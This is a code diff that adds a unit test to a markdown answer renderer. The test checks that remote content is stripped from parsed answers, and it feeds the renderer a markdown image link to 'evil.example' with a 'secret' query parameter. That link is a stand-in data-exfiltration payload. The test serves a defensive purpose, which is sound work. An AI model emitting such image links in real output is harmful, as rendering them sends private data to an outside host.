@@ -15,6 +15,13 @@ const names = new Map([
   [8, 'Shipyard'],
 ])
 
+it('nothing in an answer is fetched from elsewhere', () => {
+  const { nodes } = readAnswer(
+    'Words ![x](https://evil.example/?q=secret)\n\n\n\n:::youtube {src="https://youtu.be/dQw4w9WgXcQ"} :::',
+  )
+  expect(JSON.stringify(nodes)).not.toMatch(/evil|"youtube"/)
+})
+
 it('questions and answers are one document, with the headings of answers below the questions', () => {
   const read = new Map([
     ['a', readAnswer('## Because\n\nSee [there](/projects/7/12#start).')],
